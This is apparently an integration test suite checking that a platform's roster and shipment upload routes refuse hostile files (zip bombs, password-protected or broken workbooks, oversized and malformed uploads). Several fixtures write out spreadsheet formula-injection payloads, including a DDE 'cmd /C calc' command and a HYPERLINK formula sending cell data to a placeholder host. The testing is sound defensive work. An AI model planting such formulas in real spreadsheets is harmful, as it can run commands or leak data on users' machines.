import path from "node:path"
import type { RouteContract } from "@mall/access/contract"
import type { RosterImportDTO } from "@mall/union/types"
import type { Knex } from "@medusajs/framework/mikro-orm/knex"
import { ContainerRegistrationKeys } from "@medusajs/framework/utils"
import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
import { contracts } from "../../../src/openapi/contracts"
import { createNeighbour } from "../../helpers/create-neighbour"
import {
  passwordProtected,
  PICTURE,
  tableOf,
  workbookOf,
  zipBomb,
  zipOf,
} from "../../helpers/hostile-files"

jest.setTimeout(300_000)

const MB = 1024 * 1024
const ROSTER = "/union/roster-imports"
const TRACKING = "/cooperative/consignments/:id/shipments"

const uploads = Object.values(contracts)
  .flat()
  .filter(
    ({ upload, path: url }) => upload && /^\/(union|cooperative)\//.test(url)
  )
const tables = uploads.filter(({ path: url }) =>
  [ROSTER, TRACKING].includes(url)
)
const documents = uploads.filter((one) => !tables.includes(one))

type Hostile = { what: string; name: string; content: Buffer; code: string }

const whole = tableOf([
  ["姓名", "手机号"],
  ["张三", "13812345678"],
])

/** What no table reader may take for a table; `code` is what it must say. */
const files: Hostile[] = [
  {
    what: "a workbook with a password",
    name: "名册.xlsx",
    content: passwordProtected(),
    code: "spreadsheet_password_protected",
  },
  {
    what: "a zip with a password",
    name: "名册.xlsx",
    content: zipOf([
      { name: "xl/workbook.xml", content: "x", isEncrypted: true },
    ]),
    code: "spreadsheet_password_protected",
  },
  {
    what: "a zip bomb",
    name: "名册.xlsx",
    content: zipBomb(),
    code: "spreadsheet_too_complex",
  },
  {
    what: "a broken zip",
    name: "名册.xlsx",
    content: whole.subarray(0, whole.length - 40),
    code: "spreadsheet_broken",
  },
  {
    what: "broken XML",
    name: "名册.xlsx",
    content: workbookOf("<worksheet><sheetData><row></c>"),
    code: "spreadsheet_broken",
  },
  {
    what: "an empty file",
    name: "名册.xlsx",
    content: Buffer.alloc(0),
    code: "spreadsheet_empty",
  },
  {
    what: "thousands of columns",
    name: "名册.xlsx",
    content: tableOf([Array.from({ length: 5000 }, (_, i) => `列${i}`)]),
    code: "spreadsheet_too_many_columns",
  },
  {
    what: "a web page",
    name: "名册.xls",
    content: Buffer.from("<html><table><tr><td>张三</td></tr></table>"),
    code: "spreadsheet_web_page",
  },
]
/** Where documents are taken a picture may be one, whatever its name. */
const picture: Hostile = {
  what: "a picture named .xlsx",
  name: "名册.xlsx",
  content: PICTURE,
  code: "spreadsheet_wrong_type",
}

const CHINESE = /[\u4e00-\u9fff].*。$/
const ENGLISH = /^[^\u4e00-\u9fff]+\.$/

medusaIntegrationTestRunner({
  medusaConfigFile: path.resolve(__dirname, "../../.."),
  testSuite: ({ api, getContainer }) => {
    let tenant: Awaited<ReturnType<typeof createNeighbour>>

    beforeEach(async () => {
      tenant = await createNeighbour(api, getContainer())
    })

    const scopeOf = ({ path: url }: RouteContract) =>
      url.startsWith("/union/") ? "union" : "cooperative"

    const urlOf = ({ path: url }: RouteContract) => {
      const at = url.indexOf(":")
      const ids = at < 0 ? {} : tenant.ids[url.slice(0, at)]
      if (!ids) {
        throw new Error(`createNeighbour makes no ${url}`)
      }
      return url.replace(/:(\w+)/g, (_, name: string) => ids[name] ?? "")
    }

    const headers = (contract: RouteContract, language = "zh-CN") => ({
      authorization: `Bearer ${tenant.owners[scopeOf(contract)]}`,
      "accept-language": language,
    })

    const upload = async (
      contract: RouteContract,
      file: { name: string; content: Buffer },
      language?: string
    ) => {
      const form = new FormData()
      form.append("file", new Blob([new Uint8Array(file.content)]), file.name)
      return await api.post(urlOf(contract), form, {
        headers: headers(contract, language),
        validateStatus: () => true,
      })
    }

    /** A roster is read in the background; its end, in a language. */
    const finished = async (id: string, language?: string) => {
      const roster = tables.find(({ path: url }) => url === ROSTER)!
      for (;;) {
        const { data } = await api.get(`${ROSTER}/${id}`, {
          headers: headers(roster, language),
        })
        const found = data.roster_import as RosterImportDTO
        if (found.state !== "parsing") {
          return found
        }
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
    }

    /** What a file was refused with, whether at once or after reading. */
    const refusal = async (
      contract: RouteContract,
      file: { name: string; content: Buffer },
      language?: string
    ) => {
      const { status, data } = await upload(contract, file, language)
      if (status !== 202) {
        return { status, code: data.code, message: data.message }
      }
      const { state, failure } = await finished(data.id, language)
      const said = failure as unknown as { code: string; message: string }
      return { status: state === "failed" ? 400 : 200, ...said }
    }

    const sql = (): Knex =>
      getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)

    /** How many rows each table of ours has; a refused import is a record. */
    const written = async () => {
      const { rows } = await sql().raw<{ rows: { name: string }[] }>(
        `SELECT quote_ident(table_name) AS name FROM information_schema.tables
         WHERE table_schema = 'public' AND table_type = 'BASE TABLE'
           AND table_name NOT IN ('roster_import', 'workflow_execution')`
      )
      const counts: Record<string, number> = {}
      for (const { name } of rows) {
        const [found] = await sql()(sql().raw(name)).count("* as n")
        counts[name] = Number(found?.["n"])
      }
      return counts
    }

    /** Also the rows an upload might change without adding any. */
    const states = async () => ({
      counts: await written(),
      parcels: await sql()("parcel").select("id", "state").orderBy("id"),
      transfers: await sql()("corporate_transfer").select("*").orderBy("id"),
      members: await sql()("union_member").select("*").orderBy("id"),
    })

    const expectSentences = async (
      contract: RouteContract,
      file: { name: string; content: Buffer },
      code: string
    ) => {
      const zh = await refusal(contract, file)
      const en = await refusal(contract, file, "en")
      expect({ ...zh, what: file.name }).toMatchObject({
        status: 400,
        code,
        message: expect.stringMatching(CHINESE),
      })
      expect(en).toMatchObject({
        code,
        message: expect.stringMatching(ENGLISH),
      })
    }

    it("refuses every hostile file on every upload route, writing nothing", async () => {
      expect(tables).toHaveLength(2)
      expect(documents.length).toBeGreaterThan(0)
      const before = await states()
      for (const contract of tables) {
        for (const file of [...files, picture]) {
          await expectSentences(contract, file, file.code)
        }
      }
      for (const contract of documents) {
        for (const file of files) {
          const zh = await refusal(contract, file)
          const en = await refusal(contract, file, "en")
          expect({ ...zh, what: file.what }).toMatchObject({
            status: 400,
            message: expect.stringMatching(CHINESE),
          })
          expect(en.message).toMatch(ENGLISH)
        }
      }
      for (const contract of uploads) {
        const limit = contract.upload?.max_mb ?? 0
        const content = Buffer.alloc(limit * MB + 1, "x")
        await expectSentences(
          contract,
          { name: "大.csv", content },
          "file_too_large"
        )
        const { data } = await api.post(
          urlOf(contract),
          {},
          { headers: headers(contract), validateStatus: () => true }
        )
        expect(data).toMatchObject({
          code: "file_missing",
          message: expect.stringMatching(CHINESE),
        })
      }
      for (const contract of uploads) {
        const cut = await api.post(
          urlOf(contract),
          '--cut\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n姓名',
          {
            headers: {
              ...headers(contract),
              "content-type": "multipart/form-data; boundary=cut",
            },
            validateStatus: () => true,
          }
        )
        expect([cut.status, cut.data.code]).toEqual([400, "upload_malformed"])
      }
      expect(await states()).toEqual(before)
      const { rows } = await sql().raw(
        `SELECT id FROM roster_import WHERE state = 'failed' AND file_enc IS NOT NULL`
      )
      expect(rows).toEqual([])
      expect((await api.get("/health")).status).toBe(200)
    })

    it("takes formulas for faults of their cells, in a roster", async () => {
      const [roster] = tables.filter(({ path: url }) => url === ROSTER)
      const evil = `HYPERLINK(&quot;http://a.test?&quot;&amp;A1,&quot;x&quot;)`
      const content = tableOf([
        ["工号", "姓名", "手机号", "部门", "收货地址"],
        ["F1", { formula: evil, result: "张三" }, "13800000001", "", ""],
        ["F2", "=cmd|' /C calc'!A0", "13800000002", "", ""],
        ["F3", "王五", "13800000003", "@SUM(1+1)", ""],
        ["F4", "赵六", "13800000004", "", "=1+1"],
      ])
      const before = await states()
      const { data } = await upload(roster!, { name: "式.xlsx", content })
      expect(await finished(data.id)).toMatchObject({
        state: "previewed",
        added: 0,
        faulty: 4,
      })
      const preview = await api.get(`${ROSTER}/${data.id}/rows?kind=fault`, {
        headers: headers(roster!),
      })
      for (const { faults } of preview.data.rows) {
        expect(faults).toEqual([
          expect.objectContaining({ message: expect.stringMatching(/公式/) }),
        ])
      }
      const confirmed = await api.post(
        `${ROSTER}/${data.id}/confirm`,
        {},
        { headers: headers(roster!) }
      )
      expect(confirmed.data.roster_import.state).toBe("confirmed")
      expect(await states()).toEqual(before)
    })

    it("takes formulas for no tracking numbers, in a packing list", async () => {
      const [tracking] = tables.filter(({ path: url }) => url === TRACKING)
      const { data: page } = await api.get(
        urlOf(tracking!).replace(/shipments$/, "parcels"),
        { headers: headers(tracking!) }
      )
      const [parcel] = page.parcels
      const before = await states()
      for (const number of [
        { formula: "1+1", result: "@SUM(1+1)" },
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
      ]) {
        const content = tableOf([
          ["包裹号", "快递公司", "运单号"],
          [parcel.parcel_no, "顺丰", number],
        ])
        const { status, data } = await upload(tracking!, {
          name: "单.xlsx",
          content,
        })
        expect({ number, status, code: data.code }).toEqual({
          number,
          status: 400,
          code: "shipment_faulty",
        })
        expect(data.faults[0].message).toMatch(CHINESE)
      }
      expect(await states()).toEqual(before)
    })

    it("reads past characters that no table may hold", async () => {
      const [roster] = tables.filter(({ path: url }) => url === ROSTER)
      const content = tableOf([
        ["姓名", "手机号", "部门_x0000_"],
        ["欧阳_x0000_一", "13800000005", "仓_x0000_库_x001F_"],
      ])
      const { data } = await upload(roster!, {
        name: "册.xlsx",
        content,
      })
      expect(await finished(data.id)).toMatchObject({
        state: "previewed",
        added: 1,
      })
      const [tracking] = tables.filter(({ path: url }) => url === TRACKING)
      const list = tableOf([
        ["包裹号", "快递公司", "运单号"],
        ["包_x0000_裹", "顺丰", "SF1234567890123"],
      ])
      const answer = await upload(tracking!, { name: "单.xlsx", content: list })
      expect(answer.data.code).toBe("shipment_faulty")
    })
  },
})
